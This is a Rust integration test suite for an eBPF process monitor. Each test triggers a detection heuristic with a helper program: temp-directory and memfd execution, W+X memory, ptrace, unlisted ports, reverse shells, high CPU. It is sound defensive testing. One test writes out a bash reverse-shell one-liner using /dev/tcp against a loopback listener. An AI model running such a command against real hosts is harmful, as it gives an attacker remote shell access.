//! Every heuristic end to end, as root: `procwatch monitor` runs (eBPF sensor), a real process
//! does the offending thing, and the alert must arrive in the JSONL file with its rule, valid
//! against the `procwatch.alert/v1` schema. Near misses are covered by the rules' unit tests
//! and by the benign-mix test.
use std::{
    io::{Read, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::Duration,
};

use procwatch_tests::{Monitor, TempDir, has_rule, require_root};

/// Fast state checks so sweep-based rules fire within a second or two.
const FAST: &str = "sweep_interval: 1s\ncpu_window: 1s\n";

fn actor() -> PathBuf {
    procwatch_tests::stable_actor(std::path::Path::new(env!("CARGO_BIN_EXE_pw-actor")))
}

fn run(program: &Path, args: &[&str]) -> u32 {
    let mut child = Command::new(program)
        .args(args)
        .stdout(Stdio::null())
        .spawn()
        .expect("spawn");
    let pid = child.id();
    let _ = child.wait();
    pid
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn tmp_exe_in_tmp_var_tmp_and_dev_shm() {
    require_root!();
    let m = Monitor::start(FAST, &[]);
    for base in ["/tmp", "/var/tmp", "/dev/shm"] {
        let dir = TempDir::new_in(base, "tmpexe");
        let exe = dir.copy_exe(&actor(), "payload");
        let pid = run(&exe, &["exit", "0"]);
        let a = m.expect_rule(pid, "tmp_exe");
        assert_eq!(
            a["trigger"]["kind"], "exec",
            "the exec event itself triggers it: {a:#}"
        );
        assert_eq!(a["exe"], exe.to_str().expect("utf-8"));
        assert_eq!(a["cmdline"][1], "exit");
        assert!(
            a["reasons"][0]["attack"]
                .as_str()
                .is_some_and(|t| t.starts_with('T'))
        );
    }
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn deleted_exe_while_running() {
    require_root!();
    let m = Monitor::start(FAST, &[]);
    let dir = TempDir::new_in(&procwatch_tests::scratch_base(), "deleted");
    let exe = dir.copy_exe(&actor(), "soon-gone");
    let mut child = Command::new(&exe)
        .args(["sleep", "20"])
        .stdout(Stdio::null())
        .spawn()
        .expect("spawn");
    std::thread::sleep(Duration::from_millis(300));
    std::fs::remove_file(&exe).expect("delete the running executable");
    let a = m.expect_rule(child.id(), "deleted_exe");
    assert_eq!(a["trigger"]["kind"], "sweep");
    assert!(
        a["sha256"].as_str().is_some_and(|h| h.len() == 64),
        "hashed through /proc/PID/exe: {a:#}"
    );
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn fileless_exec_from_memfd() {
    require_root!();
    let m = Monitor::start(FAST, &[]);
    let mut child = Command::new(actor())
        .args(["memfd-exec", "sleep", "3"])
        .stdout(Stdio::null())
        .spawn()
        .expect("spawn");
    let a = m.expect_rule(child.id(), "fileless_exe");
    assert!(
        a["exe"].as_str().is_some_and(|e| e.starts_with("/memfd:")),
        "{a:#}"
    );
    assert!(
        !has_rule(&a, "deleted_exe"),
        "a memfd is fileless, not a deleted file: {a:#}"
    );
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn wx_memory_via_mprotect_and_mmap() {
    require_root!();
    let m = Monitor::start(FAST, &[]);
    for (action, syscall) in [
        ("mprotect-wx", "mprotect"),
        ("mmap-wx", "mmap"),
        ("pkey-mprotect-wx", "pkey_mprotect"),
    ] {
        let pid = run(&actor(), &[action]);
        let a = m.expect_rule(pid, "wx_mem");
        assert_eq!(a["trigger"]["kind"], "wx_mem");
        assert_eq!(a["trigger"]["syscall"], syscall);
        assert_eq!(a["action"], "alert");
    }
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn ptrace_attach_to_another_process() {
    require_root!();
    let m = Monitor::start(FAST, &[]);
    let pid = run(&actor(), &["ptrace-attach"]);
    let a = m.expect_rule(pid, "ptrace");
    assert_eq!(a["trigger"]["kind"], "ptrace");
    assert_eq!(a["trigger"]["request_name"], "PTRACE_ATTACH");
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn connect_to_unlisted_port_on_loopback() {
    require_root!();
    let m = Monitor::start(FAST, &[]);
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let pid = run(&actor(), &["connect", "127.0.0.1", &port.to_string()]);
    let a = m.expect_rule(pid, "suspicious_port");
    assert_eq!(a["trigger"]["kind"], "connect");
    assert!(
        a["remote_ports"]
            .as_array()
            .is_some_and(|p| p.contains(&port.into())),
        "{a:#}"
    );
    assert!(a["conns_outbound"].as_u64().is_some_and(|n| n >= 1));
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn connecting_to_a_listed_port_does_not_alert() {
    require_root!();
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let m = Monitor::start(&format!("{FAST}ports: \"53,80,443,{port}\"\n"), &[]);
    let pid = run(&actor(), &["connect", "127.0.0.1", &port.to_string()]);
    // Positive control: a later process's alert means the connect was already judged.
    m.sync_events();
    assert!(
        m.alerts().iter().all(|a| a["pid"] != pid),
        "{:#?}",
        m.alerts()
    );
}

/// Accepts one connection and keeps it, so the shell on the other end stays up.
fn accept_one(listener: TcpListener) -> std::thread::JoinHandle<Option<std::net::TcpStream>> {
    listener.set_nonblocking(false).expect("blocking");
    std::thread::spawn(move || listener.accept().ok().map(|(s, _)| s))
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn reverse_shell_with_socket_stdio() {
    require_root!();
    let m = Monitor::start(FAST, &[]);
    // 1. A program that puts a socket on stdio and execs /bin/sh: caught at the exec.
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let peer = accept_one(listener);
    let mut child = Command::new(actor())
        .args(["reverse-shell", "127.0.0.1", &port.to_string()])
        .spawn()
        .expect("spawn");
    let a = m.expect_rule(child.id(), "reverse_shell");
    assert!(
        a["reasons"]
            .to_string()
            .contains(&format!("127.0.0.1:{port}")),
        "{a:#}"
    );
    if let Ok(Some(mut s)) = peer.join() {
        let _ = s.write_all(b"exit\n");
    }
    let _ = child.kill();
    let _ = child.wait();

    // 2. The classic bash one-liner: bash connects, then redirects its stdio onto the socket.
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let peer = accept_one(listener);
    let script = format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let mut child = Command::new("bash")
        .args(["-c", &script])
        .stdin(Stdio::null())
        .spawn()
        .expect("bash");
    let a = m.expect_rule(child.id(), "reverse_shell");
    assert!(
        a["exe"].as_str().is_some_and(|e| e.ends_with("/bash")),
        "{a:#}"
    );
    if let Ok(Some(mut s)) = peer.join() {
        let _ = s.write_all(b"exit\n");
        let mut sink = Vec::new();
        let _ = s.read_to_end(&mut sink);
    }
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn busy_loop_is_high_cpu() {
    require_root!();
    // 25 %: a busy loop shares 2 CPUs with the rest of the test suite; the threshold itself
    // is unit-tested exactly in detect::high_cpu.
    let m = Monitor::start(&format!("{FAST}cpu_high: 25\n"), &[]);
    // At the highest priority, so a machine loaded by other work still gives it its share
    // (`nice` execs the actor: same pid).
    let mut child = Command::new("nice")
        .args(["-n", "-20"])
        .arg(actor())
        .args(["busy", "12"])
        .stdout(Stdio::null())
        .spawn()
        .expect("spawn");
    let a = m.expect_rule(child.id(), "high_cpu");
    assert!(a["cpu_pct"].as_f64().is_some_and(|c| c >= 25.0), "{a:#}");
    assert_eq!(a["trigger"]["kind"], "sweep");
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn a_fresh_worker_is_judged_by_its_cpu_since_start_on_the_first_sweep() {
    require_root!();
    // A worker that burnt 3 s of CPU right after it started and then idles: between any two
    // sweeps it uses nothing, so only its use since its start can show it, on the first sweep
    // that sees it. (A low threshold: on 2 shared CPUs the burn takes longer than 3 s of
    // wall time, and the monitor's start adds to the worker's age.)
    let mut w = procwatch_tests::Actor::spawn(&actor(), &["burn-cpu", "3", "120"]);
    let burnt = (0..12).any(|_| w.read_line().is_some_and(|l| l == "burnt"));
    assert!(burnt, "the worker never finished burning: {:?}", w.lines);
    let m = Monitor::start(&format!("{FAST}cpu_high: 3\n"), &[]);
    let a = m.expect_rule(w.pid(), "high_cpu");
    assert_eq!(a["trigger"]["kind"], "sweep");
    assert!(a["cpu_pct"].as_f64().is_some_and(|c| c >= 3.0), "{a:#}");
    let _ = w.child.kill();
    let _ = w.child.wait();
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn empty_command_line_with_min_score_override() {
    require_root!();
    // empty_cmdline weighs 2, under the default min_score of 3: --min-score 1 lets it alert.
    let m = Monitor::start(FAST, &["--min-score", "1"]);
    let mut child = Command::new(actor())
        .args(["exec-empty-argv", actor().to_str().expect("utf-8")])
        .stdout(Stdio::null())
        .spawn()
        .expect("spawn");
    let a = m.expect_rule(child.id(), "empty_cmdline");
    assert_eq!(a["cmdline"], serde_json::json!([]));
    let _ = child.wait();
}

#[test]
#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
fn sigterm_exits_zero_with_a_summary() {
    require_root!();
    let m = Monitor::start(FAST, &[]);
    let dir = TempDir::new_in("/tmp", "summary");
    let exe = dir.copy_exe(&actor(), "payload");
    let pid = run(&exe, &["exit", "0"]);
    m.expect_rule(pid, "tmp_exe");
    let alerts = m.alerts().len() as u64;
    let (status, summary, _) = m.stop();
    assert!(status.success(), "{status:?}");
    let summary = summary.expect("summary line");
    assert_eq!(summary["sensor"]["malformed"], 0);
    assert!(
        summary["engine"]["alerts"]
            .as_u64()
            .is_some_and(|n| n >= alerts),
        "{summary:#}"
    );
}
